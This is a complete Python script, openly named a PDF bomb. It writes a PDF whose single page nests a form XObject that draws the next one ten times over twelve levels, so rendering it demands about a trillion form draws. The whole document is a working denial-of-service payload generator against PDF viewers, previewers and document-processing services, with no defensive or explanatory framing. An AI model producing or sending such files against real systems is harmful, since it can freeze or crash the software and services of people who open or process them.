#!/usr/bin/env python3
"""pdf_bomb.py - a made-up PDF whose page shows a form that shows another ten times, twelve levels deep: 10^12 forms."""

DEPTH = 12


def stream(dictionary, text):
    return f"<<{dictionary}/Length {len(text)}>>stream\n{text}\nendstream"


def main():
    form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    objects = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
               "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
               stream("", "/X Do")]
    for _ in range(DEPTH):
        objects.append(stream(f"{form}/Resources<</XObject<</X {len(objects) + 2} 0 R>>>>", " ".join(["/X Do"] * 10)))
    objects.append(stream(form, ""))
    print("%PDF-1.4")
    for number, text in enumerate(objects, 1):
        print(f"{number} 0 obj\n{text}\nendobj")
    print(f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\n%%EOF")


main()
